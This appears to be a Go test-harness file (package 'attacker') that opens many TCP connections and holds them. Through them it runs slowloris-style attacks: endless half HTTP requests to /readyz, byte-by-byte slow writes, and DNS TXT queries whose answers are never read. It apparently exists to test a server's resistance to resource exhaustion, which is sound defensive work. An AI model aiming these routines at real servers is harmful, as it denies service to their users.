//go:build linux

package attacker

import (
	"context"
	"encoding/binary"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// Connections are many that are held, opened again when the server closes them.
type Connections struct {
	Server  netip.AddrPort
	Sources Sources
	Count   int
	// Hold has the connection until ctx or the connection ends.
	Hold func(ctx context.Context, conn net.Conn, i int)
}

const (
	connectTime = time.Second
	reopen      = 250 * time.Millisecond // before a connection that was closed is opened again
	slowly      = 200 * time.Millisecond // from one octet of a slow writer to the next
)

// Run holds the connections until ctx ends, and returns how many were opened.
func (c Connections) Run(ctx context.Context) (opened int, err error) {
	var all sync.WaitGroup
	var n atomic.Int64
	for i := range c.Count {
		all.Go(func() {
			for ctx.Err() == nil {
				conn, err := c.dial(ctx, i)
				if err == nil {
					n.Add(1)
					c.hold(ctx, conn, i)
				}
				pause(ctx, reopen)
			}
		})
	}
	all.Wait()
	return int(n.Load()), nil
}

// dial opens a connection with little room for what is received: the server keeps the rest.
func (c Connections) dial(ctx context.Context, i int) (net.Conn, error) {
	d := net.Dialer{
		LocalAddr: &net.TCPAddr{IP: c.Sources.at(i).AsSlice()}, Timeout: connectTime, KeepAlive: -1,
		Control: func(_, _ string, raw syscall.RawConn) (err error) {
			failed := raw.Control(func(fd uintptr) { err = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, 4096) })
			if failed != nil {
				return failed
			}
			return err
		},
	}
	return d.DialContext(ctx, "tcp", c.Server.String())
}

// hold gives a connection to Hold and closes it, at the end of ctx at the latest.
func (c Connections) hold(ctx context.Context, conn net.Conn, i int) {
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	c.Hold(ctx, conn, i)
	_ = conn.Close() // it may be closed already
}

func pause(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}

// Idle says nothing, and waits for the server to close.
func Idle(_ context.Context, conn net.Conn, _ int) {
	_, _ = conn.Read(make([]byte, 1)) // any end is the end
}

// HalfRequest begins a request of HTTP that never ends.
func HalfRequest(ctx context.Context, conn net.Conn, _ int) {
	_, err := conn.Write([]byte("GET /readyz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Long: "))
	if err == nil {
		drip(ctx, conn)
	}
}

// SlowWriter begins a message of the greatest length, the odd ones with so much of it that the
// server needs a large buffer, and goes on octet by octet.
func SlowWriter(ctx context.Context, conn net.Conn, i int) {
	begin := []byte{0xff, 0xff}
	if i%2 == 1 {
		begin = append(begin, make([]byte, 4096)...)
	}
	_, err := conn.Write(begin)
	if err == nil {
		drip(ctx, conn)
	}
}

// drip writes an octet now and then, until the server has closed.
func drip(ctx context.Context, conn net.Conn) {
	for ctx.Err() == nil {
		pause(ctx, slowly)
		_, err := conn.Write([]byte{'x'})
		if err != nil {
			return
		}
	}
}

// SilentReader asks for that name's TXT records again and again, and reads no answer. With
// fresh each question has a label of its own before the name.
func SilentReader(name string, fresh bool) func(context.Context, net.Conn, int) {
	return func(ctx context.Context, conn net.Conn, i int) {
		for n := 0; ctx.Err() == nil; n++ {
			asked := name
			if fresh {
				asked = freshLabel(i, n) + name
			}
			q := pack(question(asked, dns.TypeTXT, n))
			_, err := conn.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...))
			if err != nil {
				return
			}
		}
	}
}

func freshLabel(i, n int) string {
	const digits = "0123456789abcdef"
	label := []byte("t-")
	for v := uint64(i)<<24 | uint64(n); v > 0; v >>= 4 {
		label = append(label, digits[v&15])
	}
	return string(append(label, '.'))
}
